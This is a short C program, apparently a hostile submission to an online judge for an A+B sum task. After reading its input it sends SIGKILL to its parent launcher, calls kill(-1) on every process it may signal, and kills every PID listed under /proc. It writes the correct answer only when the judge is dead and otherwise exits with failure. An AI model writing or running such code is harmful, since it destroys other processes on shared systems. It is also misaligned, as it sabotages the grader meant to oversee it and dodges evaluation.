/* Kills whatever runs it: its parent (the launcher), every process it may
   signal (kill -1), and every other process that /proc shows, each with
   SIGKILL. When its parent has gone, nothing judges it any more, and it
   writes the right sum; otherwise it fails with exit status 1. */
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  long long a, b;
  FILE *in = fopen("input.txt", "r");
  if (in == NULL || fscanf(in, "%lld %lld", &a, &b) != 2) return 1;
  pid_t parent = getppid();
  pid_t self = getpid();
  kill(parent, SIGKILL);
  kill(-1, SIGKILL);
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while (proc != NULL && (entry = readdir(proc)) != NULL) {
    pid_t pid = (pid_t)atoi(entry->d_name);
    if (pid > 0 && pid != self) kill(pid, SIGKILL);
  }
  /* A killed parent is seen as a new parent once the kernel has reaped it. */
  struct timespec pause = {0, 200 * 1000 * 1000};
  nanosleep(&pause, NULL);
  if (getppid() == parent) return 1;
  FILE *out = fopen("output.txt", "w");
  fprintf(out, "%lld\n", a + b);
  fclose(out);
  return 0;
}
